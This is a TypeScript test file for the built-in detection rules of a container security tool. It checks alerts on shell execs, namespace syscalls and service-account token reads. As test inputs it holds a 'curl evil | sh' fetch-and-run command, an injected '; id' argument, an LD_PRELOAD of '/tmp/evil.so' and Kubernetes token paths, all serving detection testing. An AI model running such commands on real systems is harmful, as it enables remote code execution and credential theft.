import { readFileSync } from "node:fs";
import { ExecEvent, KernelCallEvent, OpenEvent, type ActivityEvent } from "@kinglet/enrichment";
import { readRules, type RuleDefinition } from "@kinglet/policy-engine";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";

import { learned, ruleCases } from "../../test/rule-cases.ts";
import { profileViewWith } from "../../test/profile-views.ts";
import { containerOf } from "../../test/containers.ts";
import { detectorWith } from "../../test/detector-with.ts";
import { builtinProfileData } from "../builtin-profile-data.ts";
import type { DetectionHost } from "../detection-host.ts";
import { loadBuiltinRules } from "../load-builtin-rules.ts";
import { builtinRules } from "./builtin-rules.ts";

const container = containerOf();

const host: DetectionHost = {
  mountPathsOf: () => ["/data", "/srv/", "/var/run/secrets/kubernetes.io/serviceaccount"],
  hasContainer: () => true,
  apiServerAddresses: ["10.96.0.1"],
  processEnvironment: (pid) => (pid === 66 ? { LD_PRELOAD: "/tmp/evil.so" } : { PATH: "/bin" }),
  commandsOf: () => undefined,
};

async function alertsOf(rules: readonly RuleDefinition[], event: ActivityEvent, spec: object | null) {
  const profile = spec === null ? undefined : profileViewWith(spec);
  const enabled = rules.map((rule) => ({ ...rule, enabled: true }));
  const detector = await detectorWith(enabled, { profiles: { get: () => profile }, host });
  expect(detector.invalidRules).toEqual([]);
  const alerts = detector.detect(event, container);
  expect(detector.activity.filter(({ failures }) => failures > 0)).toEqual([]);
  return alerts;
}

const only = (ruleId: string): readonly RuleDefinition[] => builtinRules.filter(({ id }) => id === ruleId);

describe("builtinRules", () => {
  it.each(ruleCases)("$ruleId: $title [rules D-1]", async ({ ruleId, event, spec = learned, isAlert }) => {
    const alerts = await alertsOf(only(ruleId), event, spec);
    expect(alerts.map((alert) => alert.ruleId)).toEqual(isAlert ? [ruleId] : []);
    for (const { message } of alerts) expect(message).toMatch(/^[ -~]{10,}$/);
  });

  it("have a case that alerts and one that does not, each [rules D-1]", () => {
    for (const { id } of builtinRules) {
      const cases = ruleCases.filter(({ ruleId }) => ruleId === id);
      expect([id, cases.some(({ isAlert }) => isAlert), cases.some(({ isAlert }) => !isAlert)]).toEqual([
        id,
        true,
        true,
      ]);
    }
  });

  it("see every command line of a shell but the hook's, whether the profile has shells or not [rules X-5]", async () => {
    const hook = ["sh", "-c", "nginx -s quit"];
    const commandsOf = () => ({
      command: ["/bin/sh", "-c", "serve"],
      postStart: [],
      preStop: hook,
      isPodEnding: false,
    });
    const rules = builtinRules.filter(({ id }) => id === "R0001" || id === "R0040");
    const idsOf = async (execs: readonly object[], args: string): Promise<readonly string[]> => {
      const profile = profileViewWith({ execs });
      const detector = await detectorWith(rules, { profiles: { get: () => profile }, host: { ...host, commandsOf } });
      const event = new ExecEvent({ sequence: 1, source: "tetragon", binary: "/bin/sh", args });
      return detector.detect(event, container).map(({ ruleId }) => ruleId);
    };
    const other = [{ path: "/bin/true", args: ["/bin/true"] }];
    const shell = [{ path: "/bin/sh", args: ["/bin/sh", "-c", "date"] }];
    for (const args of ['-c "nginx -s quit"', "-c serve"]) {
      expect(await idsOf(other, args)).toEqual([]);
      expect(await idsOf(shell, args)).toEqual([]);
    }
    for (const args of ["", '-c "curl evil | sh"', '-c "nginx -s quit; id"']) {
      expect(await idsOf(other, args)).toEqual(["R0001"]);
      expect(await idsOf(shell, args)).toEqual(["R0040"]);
    }
  });

  it.each(["unshare", "create_user_ns", "security_create_user_ns"])(
    "are silent about namespaces that %s tells of once the profile has the entry that the alert names [rules D-1]",
    async (syscallName) => {
      const event = new KernelCallEvent({ sequence: 1, kind: "unshare", binary: "/bin/app", syscallName });
      const [alert] = await alertsOf(only("R1006"), event, { syscalls: ["read"] });
      expect(alert?.allowedBy).toEqual({ path: "spec.syscalls", entry: syscallName });
      expect(await alertsOf(only("R1006"), event, { syscalls: ["read", alert?.allowedBy?.entry] })).toEqual([]);
    },
  );

  it("take a token that was renewed for the same, by the name of the process [rules D-1]", async () => {
    const ids = async (path: string): Promise<unknown> => {
      const event = new OpenEvent({
        sequence: 1,
        binary: "/bin/cat",
        parentBinary: "/bin/sh",
        pid: 7,
        parentPid: 1,
        path,
      });
      const [alert] = await alertsOf(only("R0006"), event, {});
      return alert?.repetitionId;
    };
    const folder = "/run/secrets/kubernetes.io/serviceaccount";
    const first = await ids(`${folder}/..2026_01_01/token`);
    expect(first).toEqual(expect.any(String));
    expect(await ids(`${folder}/..2026_01_02/token`)).toBe(first);
  });

  it("give the alerts of the golden list, each with all rules running", async () => {
    const lines: string[] = [];
    for (const { ruleId, title, event, spec = learned } of ruleCases) {
      const alerts = await alertsOf(builtinRules, event, spec);
      const said = alerts.map((alert) => `${alert.ruleId} ${alert.severity} ${alert.message}`);
      lines.push(`${ruleId}, ${title} (${event.kind}):`, ...said.map((line) => `  ${line}`));
    }
    await expect(`${lines.join("\n")}\n`).toMatchFileSnapshot("../../golden/builtin-rules.txt");
  });

  it("are in the order of their ids, each id once, and say what they ask of profiles", () => {
    const ids = builtinRules.map(({ id }) => id);
    expect(ids).toEqual([...new Set(ids)].sort());
    expect(builtinRules.filter(({ profileDataRequired }) => profileDataRequired === undefined)).toEqual([]);
  });

  it("declare everything that their expressions ask of profiles [rules D-3]", async () => {
    const enabled = builtinRules.map((rule) => ({ ...rule, enabled: true }));
    const detector = await detectorWith(enabled, { host });
    expect(detector.notes).toEqual([]);
  });

  it("leave disabled what no source here feeds, and what is disabled elsewhere", () => {
    const disabled = builtinRules.filter(({ enabled }) => !enabled).map(({ id }) => id);
    expect(disabled).toEqual(["R0002", "R1001", "R1003", "R1007", "R1011"]);
  });

  it("are what deploy/rules says, rule by rule [rules D-2]", () => {
    const { rules, problems } = readRules(parse(deployed("default-rules.yaml")));
    expect(problems).toEqual([]);
    expect(rules).toEqual(builtinRules);
  });

  it("are bound by deploy/rules as far as they are enabled [rules D-2]", () => {
    const { spec } = parse(deployed("default-binding.yaml")) as { spec: { rules: { ruleID: string }[] } };
    const enabled = builtinRules.filter((rule) => rule.enabled).map(({ id }) => id);
    expect(spec.rules.map(({ ruleID }) => ruleID)).toEqual(enabled);
  });

  it("never ask for the path of a program without the path that the kernel saw", () => {
    // With two arguments the first word of the command line decides, which the process chooses.
    expect(JSON.stringify(builtinRules)).not.toContain("get_exec_path");
  });

  it("are loaded with the first call", async () => {
    expect(await loadBuiltinRules()).toBe(builtinRules);
  });
});

describe("builtinProfileData", () => {
  it("is what the enabled rules declare together [rules D-3]", () => {
    const union: Record<string, "all" | object[]> = {};
    for (const { enabled, profileDataRequired = {} } of builtinRules) {
      if (!enabled) continue;
      for (const [surface, wanted] of Object.entries(profileDataRequired)) {
        if (wanted === "all" || union[surface] === "all") union[surface] = "all";
        else union[surface] = [...(union[surface] ?? []), ...wanted];
      }
    }
    const texts = (wanted: unknown): unknown =>
      wanted === "all" ? wanted : [...new Set((wanted as object[]).map((one) => JSON.stringify(one)))].sort();
    const sorted = (data: object): unknown =>
      Object.fromEntries(Object.entries(data).map(([surface, wanted]) => [surface, texts(wanted)]));
    expect(sorted(builtinProfileData)).toEqual(sorted(union));
  });
});

function deployed(name: string): string {
  return readFileSync(new URL(`../../../../deploy/rules/${name}`, import.meta.url), "utf8");
}
